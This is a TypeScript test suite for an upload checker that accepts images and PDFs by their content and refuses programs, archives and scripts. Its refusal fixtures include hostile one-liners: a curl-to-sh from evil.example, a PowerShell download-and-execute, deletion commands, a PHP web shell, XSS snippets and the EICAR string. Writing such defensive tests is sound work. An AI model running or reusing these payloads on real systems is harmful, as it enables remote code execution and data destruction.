import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  elfBytes, javaClassBytes, jpegApp, latin1, machOBytes, peBytes, pngChunk, pngOfSize, pseudoRandomBytes, tinyGif, tinyJpeg,
  tinyPdf, tinyPng, tinyWebp, zipBytes,
} from './attachment-fixtures.ts';
import { DEFAULT_LIMITS, type AttachmentInspection, inspectAttachment } from './index.ts';

const MB = 1024 * 1024;

function assertRefused(result: AttachmentInspection, code: string, status: number, reason?: RegExp): void {
  assert.equal(result.ok, false, `expected a refusal, got ${JSON.stringify(result)}`);
  if (result.ok) return;
  assert.equal(result.code, code);
  assert.equal(result.status, status);
  if (reason) assert.match(result.reason, reason);
}

describe('accepts real files by content, whatever they are called', () => {
  const accepted: Array<[string, () => Buffer, string, string]> = [
    ['PNG', tinyPng, 'image/png', 'png'],
    ['JPEG', () => tinyJpeg(), 'image/jpeg', 'jpg'],
    ['PDF', () => tinyPdf(), 'application/pdf', 'pdf'],
    ['GIF', () => tinyGif(), 'image/gif', 'gif'],
    ['WebP', tinyWebp, 'image/webp', 'webp'],
  ];
  for (const [label, build, mime, extension] of accepted) {
    test(`a tiny ${label} named photo.txt is accepted as ${mime} and renamed .${extension}`, async () => {
      const bytes = build();
      const result = await inspectAttachment({ bytes, fileName: 'photo.txt' });
      assert.deepEqual(result, { ok: true, mime, extension, size: bytes.length, safeFileName: `photo.${extension}` });
    });
  }

  test('the declared type is ignored: a PNG sent as application/pdf is a PNG', async () => {
    const result = await inspectAttachment({ bytes: tinyPng(), fileName: 'scan.pdf', declaredType: 'application/pdf' });
    assert.equal(result.ok && result.mime, 'image/png');
    assert.equal(result.ok && result.safeFileName, 'scan.png');
  });

  test('a phone JPEG with Multi-Picture gain map appended after EOI is accepted', async () => {
    const bytes = Buffer.concat([tinyJpeg({ multiPicture: true }), tinyJpeg()]);
    const result = await inspectAttachment({ bytes, fileName: 'IMG_0001.JPG' });
    assert.equal(result.ok, true);
  });

  test('zero padding after the end of an image is tolerated (some encoders write it)', async () => {
    const result = await inspectAttachment({ bytes: Buffer.concat([tinyPng(), Buffer.alloc(16)]), fileName: 'a.png' });
    assert.equal(result.ok, true);
  });

  test('photo-like random data (8 MB, fixed seed) does not trip any signature: no false alarms', async () => {
    const png = tinyPng([pngChunk('rnDm', pseudoRandomBytes(8 * MB, 0x5eed))]);
    assert.equal((await inspectAttachment({ bytes: png, fileName: 'photo.png' })).ok, true);
  });

  test('a JPEG with a real-world XMP metadata packet is accepted', async () => {
    const xmp = '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/"><xmp:CreatorTool>iPhone 15</xmp:CreatorTool></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
    const jpeg = tinyJpeg({ segments: [jpegApp(1, Buffer.concat([latin1('http://ns.adobe.com/xap/1.0/\0'), Buffer.from(xmp, 'utf8')]))] });
    assert.equal((await inspectAttachment({ bytes: jpeg, fileName: 'IMG_2041.jpg' })).ok, true);
  });

  test('an old GIF without its trailer byte is accepted (nothing can hide after the last block)', async () => {
    const gif = tinyGif();
    assert.equal((await inspectAttachment({ bytes: gif.subarray(0, gif.length - 1), fileName: 'a.gif' })).ok, true);
  });

  test('a PDF with links, a GoTo open action and the word JavaScript in its title is accepted', async () => {
    const bytes = tinyPdf({
      catalog: '/OpenAction [3 0 R /Fit] /Info << /Title (Notes on JavaScript) >>',
      objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bank.example/help) >> >>'],
    });
    assert.equal((await inspectAttachment({ bytes, fileName: 'statement.pdf' })).ok, true);
  });
});

describe('empty files and size limits', () => {
  test('an empty file is attachment_empty (400)', async () => {
    assertRefused(await inspectAttachment({ bytes: Buffer.alloc(0), fileName: 'a.png' }), 'attachment_empty', 400, /empty/);
  });

  test('exactly 10 MB is accepted', async () => {
    const bytes = pngOfSize(10 * MB);
    assert.equal(bytes.length, DEFAULT_LIMITS.maxBytes);
    assert.equal((await inspectAttachment({ bytes, fileName: 'big.png' })).ok, true);
  });

  test('one byte over 10 MB is attachment_too_large (413)', async () => {
    const result = await inspectAttachment({ bytes: pngOfSize(10 * MB + 1), fileName: 'big.png' });
    assertRefused(result, 'attachment_too_large', 413, /is 10\.1 MB; the limit is 10 MB/);
  });

  test('the size limit is configurable', async () => {
    const bytes = pngOfSize(2048);
    assertRefused(await inspectAttachment({ bytes, fileName: 'a.png' }, { maxBytes: 2047 }), 'attachment_too_large', 413);
    assert.equal((await inspectAttachment({ bytes, fileName: 'a.png' }, { maxBytes: 2048 })).ok, true);
  });

  test('accepted kinds are configurable: a PDF-only deployment refuses a PNG', async () => {
    const result = await inspectAttachment({ bytes: tinyPng(), fileName: 'a.png' }, { acceptedKinds: ['pdf'] });
    assertRefused(result, 'attachment_type_refused', 415, /accept PDF files only/);
  });
});

describe('refuses programs, archives, scripts and web content with a specific reason', () => {
  const tar = Buffer.alloc(1024);
  tar.write('evil.sh', 0, 'latin1');
  tar.write('ustar\x0000', 257, 'latin1');
  const iso = Buffer.alloc(0x9000);
  iso.write('\x01CD001\x01', 0x8000, 'latin1');
  const docx = Buffer.concat([zipBytes('[Content_Types].xml', '<Types/>'), zipBytes('word/document.xml', '<w:document/>')]);
  const refused: Array<[string, Buffer, RegExp]> = [
    ['Windows program (MZ/PE)', peBytes(), /program/],
    ['Linux program (ELF)', elfBytes(), /program/],
    ['macOS program (Mach-O)', machOBytes(), /program/],
    ['Java class', javaClassBytes(), /program/],
    ['WebAssembly module', Buffer.concat([latin1('\0asm\x01\0\0\0'), Buffer.alloc(32)]), /program/],
    ['ZIP archive', zipBytes(), /archive \(\.zip\)/],
    ['Office document (docx)', docx, /archive|Office/],
    ['Java archive (jar)', zipBytes('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\n'), /program|archive/],
    ['RAR archive', Buffer.concat([latin1('Rar!\x1a\x07\x01\0'), Buffer.alloc(64)]), /archive \(\.rar\)/],
    ['7-Zip archive', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(64)]), /archive \(\.7z\)/],
    ['GZIP archive', gzipSync(latin1('#!/bin/sh\nrm -rf ~\n')), /archive \(\.gz\)/],
    ['TAR archive', tar, /archive \(\.tar\)/],
    ['BZIP2 archive', Buffer.concat([latin1('BZh91AY&SY'), Buffer.alloc(64)]), /archive \(\.bz2\)/],
    ['XZ archive', Buffer.concat([Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]), Buffer.alloc(64)]), /archive \(\.xz\)/],
    ['Windows cabinet', Buffer.concat([latin1('MSCF\0\0\0\0'), Buffer.alloc(64)]), /archive \(\.cab\)/],
    ['ISO disk image', iso, /disk image \(\.iso\)/],
    ['shell script', latin1('#!/bin/sh\ncurl https://evil.example | sh\n'), /script \(it starts with "#!\/bin\/sh"\)/],
    ['PowerShell script', latin1('$c = New-Object System.Net.WebClient\nInvoke-Expression $c.DownloadString("x")\n'), /PowerShell/],
    ['Windows batch file', latin1('@echo off\r\ncmd /c del C:\\*.* /q\r\n'), /batch/],
    ['JavaScript', latin1('var s = new ActiveXObject("WScript.Shell");\nfunction go() { eval(x); }\n'), /JavaScript/],
    ['VBScript', latin1('Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'), /VBScript/],
    ['HTML page', latin1('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), /HTML web page/],
    ['XHTML page', latin1('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), /XHTML/],
    ['SVG with XML declaration', latin1('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), /SVG/],
    ['bare SVG', latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), /SVG/],
    ['self-closing SVG after a doctype', latin1('<?xml version="1.0"?>\n<!DOCTYPE svg>\n<svg/>'), /SVG/],
    ['EICAR test program', latin1('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'), /antivirus test program/],
    ['PHP script', latin1('<?php system($_GET["c"]); ?>'), /PHP/],
    ['RTF document', latin1('{\\rtf1\\ansi {\\object\\objemb}}'), /RTF/],
    ['Office 97 container', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]), /Office or installer/],
    ['unrecognised binary', Buffer.from([1, 2, 3, 0, 4, 5, 6, 0, 7, 8, 9, 0xfe]), /do not recognise/],
  ];
  for (const [label, bytes, reason] of refused) {
    test(`${label} → attachment_type_refused (415)`, async () => {
      assertRefused(await inspectAttachment({ bytes, fileName: 'document.pdf' }), 'attachment_type_refused', 415, reason);
    });
  }

  test('plain text pretending to be an image says it is text named like an image', async () => {
    const result = await inspectAttachment({ bytes: latin1('Hello, this is my statement.\n'), fileName: 'photo.png', declaredType: 'image/png' });
    assertRefused(result, 'attachment_type_refused', 415, /plain text\. It is named like an image \(\.png\)/);
  });

  test('a HEIC photo is refused with advice to send a JPEG', async () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), latin1('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(40)]);
    assertRefused(await inspectAttachment({ bytes: heic, fileName: 'IMG_1.HEIC' }), 'attachment_type_refused', 415, /HEIC.*JPEG/);
  });

  test('a PNG cut short (no IEND) is refused as damaged', async () => {
    const png = tinyPng();
    assertRefused(await inspectAttachment({ bytes: png.subarray(0, png.length - 12), fileName: 'a.png' }), 'attachment_type_refused', 415, /damaged/);
  });

  test('a JPEG without its end marker is refused as damaged', async () => {
    const jpeg = tinyJpeg();
    assertRefused(await inspectAttachment({ bytes: jpeg.subarray(0, jpeg.length - 2), fileName: 'a.jpg' }), 'attachment_type_refused', 415, /damaged/);
  });
});
